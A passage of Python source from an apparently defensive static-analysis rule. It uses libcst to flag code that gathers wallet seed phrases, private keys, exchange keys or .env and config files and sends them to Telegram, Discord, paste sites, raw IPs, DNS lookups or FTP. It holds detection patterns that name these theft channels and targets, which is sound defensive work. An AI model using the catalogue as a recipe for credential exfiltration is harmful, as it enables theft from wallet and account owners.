    if isinstance(call.func, cst.Name) and name not in _HANDOFFS:
        return call.func.value, positional
    if name in ("threading.Thread", "multiprocessing.Process", "threading.Timer"):
        kw = {a.keyword.value: a.value for a in call.args if a.keyword is not None}
        target = kw.get("target") if name != "threading.Timer" else (positional[1] if len(positional) > 1 else None)
        args = kw.get("args")
        items = [e.value for e in args.elements] if isinstance(args, (cst.Tuple, cst.List)) else []
        return (target.value, items) if isinstance(target, cst.Name) else ("", [])
    method = call.func.attr.value if isinstance(call.func, cst.Attribute) else ""
    if name == "atexit.register" or method in _HANDOFF_METHODS:
        skip = 1 if method == "run_in_executor" else 0
        rest = positional[skip:]
        if rest and isinstance(rest[0], cst.Name):
            return rest[0].value, rest[1:]
    return "", []


def _asks_for_wallet_secret(node: Optional[cst.CSTNode]) -> bool:
    """``getpass("Enter your 12 word recovery phrase: ")``: a prompt asking for a wallet secret."""
    if not isinstance(node, cst.Call) or not node.args:
        return False
    text = (literal_str(node.args[0].value) or "").lower()
    return any(w in text for w in _WALLET_PROMPT)


_CURL_UPLOAD = ("-F", "--form", "-T", "--upload-file", "--data-binary", "-d")


def _callee_name(func: cst.CSTNode) -> str:
    """``helper`` of ``helper(...)`` or ``self.helper(...)`` (a function or method of the module)."""
    if isinstance(func, cst.Name):
        return func.value
    if isinstance(func, cst.Attribute) and isinstance(func.value, cst.Name) and func.value.value in ("self", "cls"):
        return func.attr.value
    return ""


def _gist(site: SinkSite) -> bool:
    """A GitHub gist created through the API (a paste site with an account): the URL says so."""
    return site.url is not None and "/gists" in strings_in(site.url) and (site.host or "").endswith("github.com")


_GATHER = frozenset(("glob.glob", "glob.iglob", "os.walk", "os.listdir", "os.scandir", "zipfile.ZipFile",
                     "shutil.make_archive", "shutil.copytree", "shutil.copy", "shutil.copy2", "shutil.copyfile",
                     "tarfile.open", "py7zr.SevenZipFile"))
_GATHER_METHODS = ("rglob", "glob", "iterdir", "read_bytes")


def _collects(call: cst.Call, name: str) -> bool:
    """Files gathered: a walk, a glob, an archive, a copy, a binary read, or the text of a
    sensitive file read directly (``open("seed.txt").read()``)."""
    if name in _GATHER:
        return True
    if isinstance(call.func, cst.Attribute) and call.func.attr.value in _GATHER_METHODS:
        return True
    if isinstance(call.func, cst.Attribute) and call.func.attr.value in ("read", "read_text") \
            and isinstance(call.func.value, cst.Call) and call.func.value.args:
        opened = call.func.value.args[0].value
        return bool(_sensitive((string_text(opened) or "").lower())) if isinstance(
            opened, (cst.SimpleString, cst.FormattedString, cst.ConcatenatedString)) else False
    if name == "open" and len(call.args) > 1:
        mode = literal_str(call.args[1].value) or ""
        return "b" in mode and "r" in mode
    return False


_PATH_JOINS = frozenset(("os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "Path",
                         "pathlib.PurePath", "pathlib.PosixPath", "pathlib.WindowsPath"))
_RAW_READS = frozenset(("read", "read_text", "read_bytes", "readlines"))
# the files a bot keeps its exchange keys in (freqtrade's ``config.json``, a ``.env``)
_CONFIG_NAMES = ("config.json", "config.yaml", "config.yml", "config.toml", "config.ini", "settings.json",
                 "secrets.json", "credentials.json", "keys.json", ".env")


def _reads_other_file(handle: cst.CSTNode) -> bool:
    """``open("report.csv").read()``: a read of a file the literal names that is neither
    sensitive nor a config file (a function naming ``config.json`` may still send a report)."""
    if isinstance(handle, cst.Call) and (dotted(handle.func) or "") in ("open", "io.open", "Path", "pathlib.Path") \
            and handle.args:
        text = (literal_str(handle.args[0].value) or "").lower()
        return bool(text) and not _sensitive(text) and not _config_file(text)
    return False


def _config_file(text: str) -> bool:
    """A (lower-cased) literal naming a bot's config or key file: ``config.json``,
    ``user_data/config.json``, ``.env`` (not ``.envrc``, not prose)."""
    if not text or len(text) > 200 or " " in text.strip():
        return False
    base = text.replace("\\", "/").rstrip("/").rsplit("/", 1)[-1]
    return base in _CONFIG_NAMES


def _path_parts(node: cst.CSTNode) -> List[str]:
    """The literal fragments of a ``/`` path chain, left to right (non-literals skipped)."""
    parts: List[str] = []
    while isinstance(node, cst.BinaryOperation) and isinstance(node.operator, cst.Divide):
        right = literal_str(node.right)
        if right:
            parts.insert(0, right)
        node = node.left
    left = literal_str(node)
    if left:
        parts.insert(0, left)
    return parts


def _text(node: cst.CSTNode) -> str:
    """The lower-cased text of a string literal, "" for anything else."""
    if isinstance(node, (cst.SimpleString, cst.FormattedString, cst.ConcatenatedString)):
        return (string_text(node) or "").lower()
    return ""


def _uploads(site: SinkSite) -> bool:
    """The request carries a file (``files=``, a document upload)."""
    call = site.call if site.call is not None else site.node
    if not isinstance(call, cst.Call):
        return False
    if any(a.keyword is not None and a.keyword.value in ("files", "document", "file") for a in call.args):
        return True
    return isinstance(call.func, cst.Attribute) and call.func.attr.value in (
        "sendDocument", "send_document", "upload", "upload_file", "storbinary", "files_upload", "files_upload_v2")


def _sensitive(text: str) -> str:
    """What a (lower-cased) path literal points at, or ""."""
    if not text or len(text) > 400:
        return ""
    for needle, what in SENSITIVE_PATHS:
        if needle in text and _pathish(text, needle):
            return what
    return ""


def _environment(src: Source) -> bool:
    """The whole environment (the flag is dropped once it is iterated: ``{k: v for k, v in
    os.environ.items()}`` is still all of it)."""
    return src.env or src.label in ("the process environment", "dotenv_values()")


def _pathish(text: str, needle: str) -> bool:
    """The needle sits in a path or a file name, not in prose (``"keystore"`` in a path, not
    in "unlock your keystore with the password")."""
    if any(c in needle for c in "/\\."):
        return True
    return any(c in text for c in "/\\%~") or text.strip() == needle or text.endswith((".json", ".dat", ".txt", ".db"))


def _kind_text(kind: str) -> str:
    return "seed phrase" if kind == name_kinds.MNEMONIC else "private key"


def _exfil_host(site: SinkSite) -> bool:
    """A chat, webhook, paste site, raw IP or unknown host (not an RPC provider's API)."""
    if site.kind == NOTIFY or site.host is None:
        return True
    return host_kind(site.host) in ("the Telegram bot API", "Discord", "a raw IP address", "a paste or file-drop site",
                                    "an unknown host", "a notification service")


def _drop_host(site: SinkSite) -> bool:
    """A chat, webhook, paste site or raw IP: where a typed credential has no business."""
    if site.kind == NOTIFY:
        return True
    return site.host is not None and host_kind(site.host) in (
        "the Telegram bot API", "Discord", "a raw IP address", "a paste or file-drop site", "a notification service")


def _where(site: SinkSite) -> str:
    if site.host:
        return f"to {host_kind(site.host)} ({site.host}) through {site.what}"
    return f"through {site.what}"


register_user(HarvestAndExfiltrate.CODE)  # the data flow walks in runs that enable BOT504
# a DNS look-up carries what its name is built from to whoever serves the zone: stealers cut the
# data into labels of ``<chunk>.<zone>`` (JFrog 2023, Checkmarx 2024)
register_sinks((SinkSpec(HTTP, callees=("socket.gethostbyname", "socket.gethostbyname_ex", "socket.getaddrinfo",
                                          "dns.resolver.resolve", "dns.resolver.query"), first_only=True),
                # an FTP upload carries the file it is handed (its second argument) to the server
                SinkSpec(HTTP, methods=("storbinary", "storlines"), imports=("ftplib",), only=1)))


class _SecretLook:
    """``HarvestAndExfiltrate._exchange_secret_expr``'s walk: the first client secret read
    off an object in an expression, following names bound once."""

    def __init__(self, rule: "HarvestAndExfiltrate", depth: int) -> None:
        self.rule, self.depth = rule, depth
        self.found: List[str] = []

    def visit_Attribute(self, n: cst.Attribute) -> None:
        if n.attr.value in _CLIENT_SECRET_ATTRS and not self.found:
            self.found.append(dotted(n) or n.attr.value)

    def visit_Name(self, n: cst.Name) -> None:
        values = self.rule.assigned.get(n.value) or []
        if len(values) == 1 and not self.found:
            what = self.rule._exchange_secret_expr(values[0], self.depth + 1)
            if what:
                self.found.append(what)
